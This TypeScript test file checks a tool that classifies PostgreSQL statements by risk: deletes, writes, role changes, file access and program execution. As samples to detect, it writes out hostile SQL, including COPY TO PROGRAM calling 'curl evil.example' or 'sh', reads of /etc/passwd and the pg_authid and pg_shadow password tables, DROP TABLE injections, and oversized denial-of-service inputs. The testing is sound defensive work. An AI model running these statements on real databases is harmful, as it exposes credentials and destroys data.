import fc from "fast-check";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import {
  readSql,
  type SqlParser,
  type SqlStatement,
  sqlActions,
} from "../../../packages/core/src/interpret/sql/index.js";
import { PostgresParser } from "../../../packages/service/src/index.js";

const parser = new PostgresParser({ parseMs: 5_000, idleMs: 600_000 });
beforeAll(async () => expect(await parser.ready()).toBe(true));
afterAll(() => parser.close());

/** A statement in short: kind, verb, tables changed, tables read, rows in common, what else it reaches. */
function short(s: SqlStatement): string {
  const where = s.limits.flatMap(({ table, where }) => Object.entries(where).map(([c, v]) => `${table}.${c}=${v}`));
  return [
    `${s.kind} ${s.statement}`.trim(),
    s.tables.length > 0 ? `[${s.tables.join(" ")}]` : "",
    s.reads.length > 0 ? `from ${s.reads.join(" ")}` : "",
    (s.kind === "write" || s.kind === "delete") && !s.bounded ? "unbounded" : "",
    where.length > 0 ? `where ${where.join(" ")}` : "",
    ...s.executes.map(
      (e) => `${e.type}:${"name" in e ? e.name : "path" in e ? e.path : "command" in e ? e.command : ""}`,
    ),
  ]
    .filter((part) => part !== "")
    .join(" ");
}

const ROWS: readonly (readonly [why: string, sql: string, ...is: string[]])[] = [
  [
    "a delete inside a read",
    "WITH d AS (DELETE FROM a.t WHERE id = 1 RETURNING *) SELECT * FROM d",
    "delete DELETE [a.t] where a.t.id=1",
  ],
  [
    "each change by itself",
    "WITH d AS (DELETE FROM t RETURNING id) INSERT INTO u SELECT id FROM d",
    "delete DELETE [t] unbounded",
    "write INSERT [u]",
  ],
  ["a name of an expression hides a table", "WITH t AS (SELECT 1) SELECT * FROM t, s.t", "read SELECT from s.t"],
  ["explain only looks", "EXPLAIN DELETE FROM t", "read EXPLAIN from t"],
  [
    "explain analyze does it",
    "EXPLAIN (VERBOSE, ANALYZE) DELETE FROM t",
    "delete EXPLAIN ANALYZE DELETE [t] unbounded",
  ],
  ["unless it is off", "EXPLAIN (ANALYZE 0) DELETE FROM t", "read EXPLAIN from t"],
  [
    "a function that says it never changes anything runs while the plan is made",
    "EXPLAIN SELECT f()",
    "read EXPLAIN function:f",
  ],
  ["copy to a program", "COPY t TO PROGRAM 'curl evil.example'", "read COPY [t] program:curl evil.example export:"],
  ["copy from a file", "COPY t FROM '/etc/passwd'", "write COPY [t] file-read:/etc/passwd"],
  ["copy of a query", "COPY (SELECT * FROM t) TO STDOUT", "read COPY from t export:"],
  ["copy of a change", "COPY (DELETE FROM t RETURNING *) TO STDOUT", "delete DELETE [t] unbounded export:"],
  ["a block is code", "DO $$ BEGIN DELETE FROM t; END $$", "unknown DO code:"],
  ["a procedure is code", "CALL p(1)", "unknown CALL code:"],
  ["select into makes a table", "SELECT * INTO n FROM t", "define SELECT INTO [n] from t"],
  [
    "so does create table as, with what the query reaches",
    "CREATE TABLE n AS SELECT pg_read_file('/x')",
    "define CREATE TABLE [n] file-read:/x",
    "read SELECT file-read:/x",
  ],
  ["a lock is a change", "SELECT * FROM t WHERE id = 1 FOR KEY SHARE", "write SELECT FOR UPDATE [t] where t.id=1"],
  ["what is prepared counts", "PREPARE p AS DELETE FROM t", "define PREPARE from t", "delete DELETE [t] unbounded"],
  ["what was prepared is not known", "EXECUTE p", "unknown EXECUTE code:"],
  ["a cursor reads", "DECLARE c CURSOR FOR SELECT * FROM t", "read DECLARE CURSOR SELECT from t"],
  [
    "roles",
    "SET ROLE x; RESET ROLE; SET SESSION AUTHORIZATION y",
    "grant SET ROLE",
    "grant RESET ROLE",
    "grant SET AUTHORIZATION",
  ],
  ["a role by a function", "SELECT set_config('role', 'x', false)", "unknown SELECT role:"],
  ["a setting by a function", "SELECT set_config('a.b', 'x', false)", "read SELECT session:"],
  [
    "a query in a text is read",
    "SELECT query_to_xml('DELETE FROM t', true, true, '')",
    "read SELECT",
    "delete DELETE [t] unbounded",
  ],
  ["one nobody knows is not", "SELECT query_to_xml(q, true, true, '') FROM t", "unknown SELECT from t code:"],
  ["files", "SELECT pg_ls_dir('/x'), lo_export(1, '/y')", "read SELECT file-read:/x file-write:null"],
  ["sessions of others", "SELECT pg_terminate_backend(7)", "unknown SELECT kill:"],
  ["sequences", "SELECT nextval('s')", "read SELECT write:"],
  ["waiting", "SELECT pg_sleep(9)", "unknown SELECT code:"],
  ["somebody's function", "SELECT s.f(1)", "read SELECT function:s.f"],
  [
    "those of the server are known, with their schema too",
    "SELECT pg_catalog.lower(a), count(*), now() FROM t",
    "read SELECT from t",
  ],
  ["escapes hide nothing", "SELECT U&\"\\0070g_read_file\"('/x')", "read SELECT file-read:/x"],
  ["nor do quotes", 'SELECT "pg_catalog"."pg_read_file"(\'/x\')', "read SELECT file-read:/x"],
  ["password hashes", "SELECT * FROM pg_catalog.pg_authid", "read SELECT from pg_catalog.pg_authid secret:"],
  [
    "an upsert may change rows that are there",
    "INSERT INTO t VALUES (1) ON CONFLICT (id) DO UPDATE SET a = 2",
    "write UPSERT [t]",
  ],
  ["merge that deletes", "MERGE INTO t USING s ON true WHEN MATCHED THEN DELETE", "delete MERGE [t] from s"],
  ["several statements", "SELECT 1; DROP TABLE t", "read SELECT", "define DROP TABLE [t]"],
  ["comments nest", "SELECT 1 /* /* */ ; DROP TABLE t */", "read SELECT"],
];

const LIMITS: readonly (readonly [why: string, condition: string, bounded: boolean])[] = [
  ["a column", "id = 1", true],
  ["a constant", "1 = 1", false],
  ["a constant that is false", "false", true],
  ["nothing", "NULL", true],
  ["itself", "t.id = t.id", false],
  ["or a constant", "id = 1 OR true", false],
  ["and a constant", "id = 1 AND true", true],
  ["not null", "id IS NOT NULL", false],
  ["not null, turned around", "NOT (id IS NULL)", false],
  ["not different from itself", "NOT (id <> id)", false],
  ["any text", "a LIKE '%'", false],
  ["any text, as an expression", "a ~ '.*'", false],
  ["some text", "a LIKE 'x%'", true],
  ["its own rows", "id IN (SELECT id FROM t)", false],
  ["some of its own rows", "id IN (SELECT id FROM t WHERE a = 'x')", true],
  ["a few of its own rows", "id IN (SELECT id FROM t LIMIT 3)", true],
  ["something exists", "EXISTS (SELECT 1)", false],
  ["calls of constants", "coalesce(1, 2) = 1", false],
  ["not unknown", "(id = 1) IS NOT UNKNOWN", false],
  ["a cursor's row", "CURRENT OF c", true],
];

const WHERE: readonly (readonly [why: string, sql: string, is: object])[] = [
  ["the one value", "SELECT * FROM visits WHERE patient_id = 42", { patient_id: "42" }],
  [
    "written the other way round, as text, with a cast",
    "SELECT * FROM visits v WHERE '42'::int = v.patient_id",
    { patient_id: "42" },
  ],
  ["a list of one", "SELECT * FROM visits WHERE patient_id IN (42)", { patient_id: "42" }],
  ["a list of two", "SELECT * FROM visits WHERE patient_id IN (42, 43)", {}],
  ["either", "SELECT * FROM visits WHERE patient_id = 42 OR patient_id = 43", {}],
  ["not", "SELECT * FROM visits WHERE NOT patient_id = 42", {}],
  ["the second half of a union", "SELECT * FROM visits WHERE patient_id = 42 UNION SELECT * FROM visits", {}],
  [
    "both halves",
    "SELECT * FROM visits WHERE patient_id = 42 UNION SELECT * FROM visits WHERE patient_id = 42",
    { patient_id: "42" },
  ],
  ["another table's column", "SELECT * FROM visits v JOIN bills b ON b.id = v.id WHERE b.patient_id = 42", {}],
  ["a join's own condition", "SELECT * FROM visits v JOIN bills b ON v.patient_id = 42", { patient_id: "42" }],
  ["one that keeps no row out", "SELECT * FROM visits v LEFT JOIN bills b ON v.patient_id = 42", {}],
  ["whose column is not sure", "SELECT * FROM visits, bills WHERE patient_id = 42", {}],
  ["nor inside another query", "SELECT * FROM bills WHERE id IN (SELECT id FROM visits WHERE patient_id = 42)", {}],
  ["a name in quotes is another name", 'SELECT * FROM visits WHERE "Patient_ID" = 42', { Patient_ID: "42" }],
  ["a value nobody knows", "SELECT * FROM visits WHERE patient_id = $1", {}],
  ["an update", "UPDATE visits SET a = 1 WHERE patient_id = 42", { patient_id: "42" }],
  ["the values of an insert", "INSERT INTO visits (patient_id, a) VALUES (42, 'x'), (42, 'y')", { patient_id: "42" }],
  [
    "an upsert changes rows nobody named",
    "INSERT INTO visits (patient_id) VALUES (42) ON CONFLICT (a) DO UPDATE SET a = 1",
    {},
  ],
];

describe("PostgreSQL by its own grammar", () => {
  it.each(ROWS)("P3: %s: %s", (_why, sql, ...is) => {
    const reading = readSql(sql, "postgres", parser.parse);
    expect(reading.unparsed).toBeNull();
    expect(reading.statements.map(short)).toEqual(is);
  });

  it.each(LIMITS)("P3: what keeps rows out: %s: %s: %s", (_why, condition, bounded) => {
    const [one] = readSql(`DELETE FROM t WHERE ${condition}`, "postgres", parser.parse).statements;
    expect(one!.bounded).toBe(bounded);
  });

  it.each(WHERE)("P5: %s: %s", (_why, sql, is) => {
    const actions = sqlActions(readSql(sql, "postgres", parser.parse), "postgres");
    expect(actions.find(({ resource }) => resource.name === "visits")?.detail.where ?? {}).toEqual(is);
  });

  it("places are those of the text, whatever its letters", () => {
    const text = "SELECT 'äö𝒳'; DROP TABLE t";
    const [, second] = readSql(text, "postgres", parser.parse).statements;
    expect(text.slice(second!.span.start, second!.span.end).trim()).toBe("DROP TABLE t");
  });
});

describe("texts that want to be too much", () => {
  const big = "x".repeat(60_000);
  const hostile: readonly (readonly [why: string, sql: string])[] = [
    ["64 KB of a list", `SELECT * FROM t WHERE a IN (${"1,".repeat(32_000)}1)`],
    ["64 KB of sums", `SELECT ${"a+".repeat(32_000)}1`],
    ["64 KB of brackets", `SELECT ${"(".repeat(32_000)}1${")".repeat(32_000)}`],
    ["100,000 brackets", `SELECT ${"(".repeat(100_000)}1${")".repeat(100_000)}`],
    ["64 KB of queries in queries", `SELECT ${"(SELECT ".repeat(7_000)}1${")".repeat(7_000)}`],
    ["64 KB of NOT", `DELETE FROM t WHERE ${"NOT ".repeat(16_000)}a`],
    ["64 KB of OR", `DELETE FROM t WHERE a = 1 ${"OR a = 1 ".repeat(7_000)}`],
    ["64 KB of statements", "SELECT 1;".repeat(7_000)],
    ["64 KB of joins", `SELECT * FROM t ${"JOIN t ON true ".repeat(4_000)}`],
    ["64 KB of WITH", `WITH a AS (SELECT 1) ${", a AS (SELECT 1)".repeat(3_500)} SELECT 1`],
    ["64 KB of open WITH", "WITH a AS (".repeat(5_000)],
    ["64 KB of CASE", "SELECT CASE WHEN ".repeat(3_500)],
    ["64 KB of unions", `SELECT 1 ${"UNION SELECT 1 ".repeat(4_000)}`],
    ["an open quote", `SELECT '${big}`],
    ["open dollars", `SELECT $a$${big}`],
    ["dollars all over", "$a$b".repeat(15_000)],
    ["open comments", "/*".repeat(30_000)],
    ["comments and quotes", "/*'*/\"".repeat(10_000)],
    ["1 MB in one literal", `SELECT '${"x".repeat(1_000_000)}'`],
    ["1 MB of statements", "DELETE FROM t;".repeat(70_000)],
    ["64 KB of inserts in inserts", `SELECT ${"(INSERT INTO t VALUES ".repeat(3_000)}`],
    ["64 KB of brackets in a condition", `DELETE FROM t WHERE ${"(".repeat(15_000)}a=1${")".repeat(15_000)}`],
    ["64 KB of either in either", `DELETE FROM t WHERE ${"(a=1 OR ".repeat(7_000)}a=1${")".repeat(7_000)}`],
    ["64 KB of signs", "+-".repeat(30_000)],
    ["1 MB of commas", `SELECT * FROM t ${",t".repeat(500_000)}`],
    ["a NUL", "SELECT 1\0; DROP TABLE t"],
    ["half a letter", "SELECT '\ud800' FROM t"],
    ["names of objects", "SELECT __proto__, constructor FROM __proto__ WHERE __proto__ = 1"],
  ];
  it.each(hostile)("bounded and coded: %s", (_why, sql) => {
    for (const by of [parser.parse as SqlParser, null]) {
      const begin = process.cpuUsage();
      const reading = readSql(sql, "postgres", by);
      const { user, system } = process.cpuUsage(begin);
      expect(reading.statements.length).toBeGreaterThan(0);
      expect(reading.statements.length).toBeLessThanOrEqual(2_049);
      // Milliseconds of processor, mostly below 50: what this finds is a square of the length.
      expect((user + system) / 1_000).toBeLessThan(1_000);
    }
  });
  it.each([
    ["SELECT 1\0", "odd_text"],
    ["SELECT '\ud800'", "odd_text"],
    [`SELECT '${"x".repeat(70_000)}'`, "too_long"],
    ["SELECT 1 \\gset", "syntax"],
  ])("%j is read by its words, and that is said", (sql, unparsed) => {
    expect(readSql(sql, "postgres", parser.parse).unparsed).toBe(unparsed);
  });
  it.each(["SELECT 1\0", "SELECT '\ud800'"])("%j is no read", (sql) => {
    expect(readSql(sql, "postgres", parser.parse).statements.map(({ kind }) => kind)).toEqual(["unknown"]);
  });
});

describe("what is written otherwise is not another thing", () => {
  const changes = fc.constantFrom(
    "DELETE FROM orders",
    "DELETE FROM orders WHERE id = 1 OR 1 = 1",
    "UPDATE orders SET paid = true WHERE id = $1",
    "DROP TABLE orders",
    "TRUNCATE orders",
    "ALTER TABLE orders DROP COLUMN id",
    "GRANT ALL ON orders TO eve",
    "WITH d AS (DELETE FROM orders RETURNING *) SELECT * FROM d",
    "EXPLAIN ANALYZE DELETE FROM orders",
    "SELECT pg_read_file('/etc/passwd')",
    "SELECT * FROM pg_shadow",
    "COPY orders TO PROGRAM 'sh'",
    "DO 'begin delete from orders; end'",
    "SELECT query_to_xml('delete from orders', true, true, '')",
    "CALL clear(:x)",
    "SET ROLE admin",
  );
  const disguise = fc.record({
    blank: fc.constantFrom(
      " ",
      "\n",
      "\t",
      "\r\n",
      "/**/",
      "/* ; */",
      "/* ' */",
      "/* SELECT 1 */",
      " -- it's\n",
      "\u00a0 ".trimStart() === "" ? " " : " ",
    ),
    spell: fc.constantFrom("lower", "upper", "as is"),
    before: fc.constantFrom("", "SELECT 1; ", "/* x */", "-- x\n", "BEGIN; "),
    after: fc.constantFrom("", ";", " ; SELECT 1", " -- x", " /* x */", "; COMMIT"),
    parameter: fc.constantFrom("$1", "$7", "?", ":id", ":customer"),
  });
  it("comments, case, blanks, neighbours and names of parameters never make a change a read", () => {
    fc.assert(
      fc.property(changes, disguise, fc.boolean(), (change, { blank, spell, before, after, parameter }, parsed) => {
        const spelled = change
          .split(/('[^']*')/)
          .map((part, i) => {
            if (i % 2 === 1) return part;
            const cased = spell === "lower" ? part.toLowerCase() : spell === "upper" ? part.toUpperCase() : part;
            return cased.replaceAll(" ", blank).replace(/\$1|:x/i, parameter);
          })
          .join("");
        const { statements } = readSql(`${before}${spelled}${after}`, "postgres", parsed ? parser.parse : null);
        const pure = statements.every(
          ({ kind, executes }) => (kind === "read" || kind === "session") && executes.length === 0,
        );
        expect(pure).toBe(false);
      }),
      { numRuns: 1_500 },
    );
  });
});
